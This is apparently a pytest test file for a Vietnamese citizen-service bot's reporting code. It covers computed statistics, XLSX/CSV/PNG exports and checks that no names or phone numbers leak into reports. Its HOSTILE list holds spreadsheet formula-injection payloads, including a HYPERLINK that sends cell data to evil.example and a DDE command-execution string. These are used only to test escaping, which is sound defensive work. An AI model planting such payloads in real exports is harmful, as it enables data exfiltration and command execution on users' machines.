"""Reports: numbers checked by hand on a fixed data set, every export format, privacy."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from openpyxl import load_workbook
from PIL import Image

from bot import clock, reports
from bot.app import open_desk
from bot.cases import Case, CaseDesk, Step
from bot.demo import seed_month
from bot.storage import FeedbackRow, RatingRow, VoteRow
from tests.helpers import make_config

ROOT = Path(__file__).resolve().parent.parent
D, T = dt.date, dt.datetime
F = reports.Filters(D(2026, 11, 1), D(2026, 11, 30))


def case(code: str, due: D, steps: list[tuple[T, str]], procedure: str = "dang-ky-khai-sinh") -> Case:
    return Case(code, procedure, "Nguyễn Văn Bí Mật", "0912345678", "trực tiếp", steps[0][0], due, steps[-1][1], None,
                tuple(Step(at, status, "thiếu tờ khai" if status == "needs_supplement" else "", "cb") for at, status in steps))


def rating(level: str, at: str, **extra: Any) -> RatingRow:
    fields: dict[str, Any] = {"id": 0, "code": None, "at": T.fromisoformat(at), "channel": "telegram",
                              "procedure": "dang-ky-khai-sinh", "office": "", "scale": 5, "level": level,
                              "visits": None, "info": None, "attitude": None, "extra_fee": None, "comment": "",
                              "contact_ok": False}
    return RatingRow(**{**fields, **extra})


FIXED_CASES = [
    case("A", D(2026, 11, 10), [(T(2026, 11, 2, 9), "received"), (T(2026, 11, 5, 9), "ready"), (T(2026, 11, 6, 9), "returned")]),   # early
    case("B", D(2026, 11, 10), [(T(2026, 11, 2, 9), "received"), (T(2026, 11, 10, 9), "ready")]),                                   # on time
    case("C", D(2026, 11, 10), [(T(2026, 11, 2, 9), "received"), (T(2026, 11, 12, 9), "returned")]),                                # late
    case("D", D(2026, 11, 10), [(T(2026, 11, 2, 9), "received"), (T(2026, 11, 3, 9), "processing")]),                               # open, overdue
    case("E", D(2026, 12, 10), [(T(2026, 11, 20, 9), "received"), (T(2026, 11, 21, 9), "needs_supplement")]),                       # supplement
    case("F", D(2026, 10, 10), [(T(2026, 10, 1, 9), "received"), (T(2026, 10, 9, 9), "returned")]),                                 # closed before period
]
FIXED_RATINGS = [
    rating("5", "2026-11-06T10:00:00", visits="0", attitude="good"),
    rating("5", "2026-11-07T10:00:00", visits="0"),
    rating("4", "2026-11-12T10:00:00", visits="1"),
    rating("3", "2026-11-13T10:00:00"),
    rating("1", "2026-11-14T10:00:00", code="C", comment="Chờ quá lâu", contact_ok=True, visits="2", extra_fee="yes"),
    rating("2", "2026-11-15T10:00:00", code="B", comment="Không ai báo", contact_ok=False, channel="zalo"),
]
FIXED_VOTES = [VoteRow(i, T(2026, 11, 3), "telegram", "dang-ky-khai-sinh", v) for i, v in enumerate("up up up down".split())]
FIXED_FEEDBACK = [FeedbackRow(1, T(2026, 11, 4, 8), "telegram", "complaint", "Gọi hotline không ai nghe"),
                  FeedbackRow(2, T(2026, 11, 5, 8), "telegram", "praise", "Tốt")]


def fixed_report(filters: reports.Filters = F) -> reports.Report:
    return reports.aggregate(filters, D(2026, 11, 30), FIXED_CASES, FIXED_RATINGS, FIXED_VOTES, FIXED_FEEDBACK)


def test_numbers_computed_by_hand():
    r = fixed_report()
    assert r.ratings == 6
    assert r.satisfied_pct == pytest.approx(100 * 3 / 6)                 # 5, 5, 4 of six
    assert (r.closed, r.closed_on_time) == (3, 2)                         # A early, B on time, C late
    assert r.on_time_pct == pytest.approx(100 * 2 / 3)
    assert [c.code for c in r.overdue] == ["D"]
    assert [c.code for c, _, _ in r.supplements] == ["E"]
    assert r.criteria["visits"] == {"0": 2, "1": 1, "2": 1}
    assert r.usefulness == {"dang-ky-khai-sinh": {"up": 3, "down": 1}}
    assert [(n["level"], n["code"]) for n in r.negatives] == [("1", "C"), ("2", "")]   # code only with consent
    assert [c["text"] for c in r.complaints] == ["Gọi hotline không ai nghe"]


def test_filters_by_channel_and_procedure():
    assert fixed_report(reports.Filters(F.start, F.end, channel="zalo")).ratings == 1
    by_other = fixed_report(reports.Filters(F.start, F.end, procedure="dang-ky-ket-hon"))
    assert by_other.ratings == 0 and by_other.satisfied_pct is None


def test_xlsx_has_one_sheet_per_table_with_vietnamese_headers(tmp_path):
    path = tmp_path / "r.xlsx"
    path.write_bytes(reports.to_xlsx(fixed_report()))
    book = load_workbook(path)
    assert book.sheetnames == ["Tổng hợp", "Mức độ hài lòng", "Tiêu chí đánh giá", "Hồ sơ quá hạn",
                               "Hồ sơ phải bổ sung", "Câu trả lời hữu ích", "Đánh giá chưa hài lòng", "Phản ánh"]
    summary = book["Tổng hợp"]
    assert [c.value for c in summary[1]] == ["Chỉ số", "Giá trị"]
    assert summary["A3"].value == "Số lượt đánh giá" and summary["B3"].value == 6
    assert summary["A4"].value == "Tỷ lệ hài lòng (%)" and summary["B4"].value == 50.0
    assert summary["B7"].value == 66.7
    levels = book["Mức độ hài lòng"]
    assert [[c.value for c in row] for row in levels.iter_rows(min_row=2)] == [
        ["Rất hài lòng", 2, 33.3], ["Hài lòng", 1, 16.7], ["Bình thường", 1, 16.7],
        ["Không hài lòng", 1, 16.7], ["Rất không hài lòng", 1, 16.7]]
    negatives = book["Đánh giá chưa hài lòng"]
    assert [c.value for c in negatives[2]] == ["2026-11-14", "dang-ky-khai-sinh", "Rất không hài lòng", "Chờ quá lâu", "C"]
    assert negatives["E3"].value in (None, "")
    assert book["Câu trả lời hữu ích"]["D2"].value == 75.0


def test_csv_holds_every_table():
    rows = list(csv.reader(io.StringIO(reports.to_csv(fixed_report()))))
    assert ["# Tổng hợp"] in rows and ["# Phản ánh"] in rows
    assert ["Số lượt đánh giá", "6"] in rows


def test_png_chart_decodes_with_the_expected_size():
    image = Image.open(io.BytesIO(reports.to_png(fixed_report())))
    image.load()
    assert image.format == "PNG" and image.size == (1000, 700)
    assert len(image.convert("RGB").getcolors(maxcolors=1_000_000)) > 10    # not a blank canvas


@pytest_asyncio.fixture
async def seeded(tmp_path: Path) -> AsyncIterator[CaseDesk]:
    desk = await open_desk(make_config(tmp_path / "db.sqlite3"))
    assert await seed_month(desk) == 120
    yield desk
    await desk.store.close()


@pytest.mark.asyncio
async def test_no_name_phone_or_chat_id_in_any_report_format(seeded):
    today = clock.today()
    report = await reports.build_report(seeded, reports.Filters(today - dt.timedelta(days=31), today))
    assert report.ratings > 20 and report.closed > 50
    names = [c.name for c in await seeded.list()]
    phones = [c.phone for c in await seeded.list()]
    xlsx = load_workbook(io.BytesIO(reports.to_xlsx(report)))
    xlsx_text = " ".join(str(c.value) for sheet in xlsx for row in sheet.iter_rows() for c in row)
    for rendered in (reports.render_text(report), reports.to_csv(report), reports.summary_text(report), xlsx_text):
        assert not any(n in rendered for n in names)
        assert not any(p in rendered or p[1:] in rendered for p in phones)
        assert "citizen" not in rendered


@pytest.mark.asyncio
async def test_seed_refuses_a_database_that_has_cases(seeded):
    assert await seed_month(seeded) == 0


def test_report_command_writes_every_format(tmp_path):
    env = {**os.environ, "MOTCUA_DB": str(tmp_path / "r.sqlite3")}

    def run(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "bot", *args], capture_output=True, text=True, cwd=ROOT,
                              env=env, timeout=120)

    assert run("demo", "seed").returncode == 0
    assert run("demo", "seed").returncode == 1
    today = clock.today()
    span = ["--from", str(today - dt.timedelta(days=30)), "--to", str(today)]
    text = run("report", *span)
    assert text.returncode == 0 and "Tỷ lệ hài lòng" in text.stdout
    for fmt in ("csv", "xlsx", "png"):
        out = tmp_path / f"r.{fmt}"
        done = run("report", *span, "--format", fmt, "--output", str(out))
        assert done.returncode == 0, done.stderr
        assert out.stat().st_size > 500
    assert run("report", "--from", "2026-11-30", "--to", "2026-11-01").returncode == 2


HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&B2,"Khiếu nại")', "=cmd|' /C calc'!A0", "+1+2", "-3+4",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def hostile_report() -> reports.Report:
    """Citizens' complaints and a rating comment written as formulas (R4)."""
    feedback = [FeedbackRow(i, T(2026, 11, 4, 8), "telegram", "complaint", text) for i, text in enumerate(HOSTILE)]
    ratings = [rating("1", "2026-11-14T10:00:00", code="C", comment="=1+1")]
    return reports.aggregate(F, D(2026, 11, 30), FIXED_CASES, ratings, FIXED_VOTES, feedback)


def test_text_from_outside_never_becomes_a_formula_in_the_xlsx(tmp_path):
    path = tmp_path / "r.xlsx"
    path.write_bytes(reports.to_xlsx(hostile_report()))
    book = load_workbook(path)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    # shown as typed (XML keeps no carriage return: that one comes back as a line break)
    assert {h for h in HOSTILE if "\r" not in h} <= texts and "=1+1" in texts


def test_text_from_outside_never_starts_a_formula_in_the_csv():
    rows = list(csv.reader(io.StringIO(reports.to_csv(hostile_report()))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert {"'" + text for text in HOSTILE} <= set(cells)
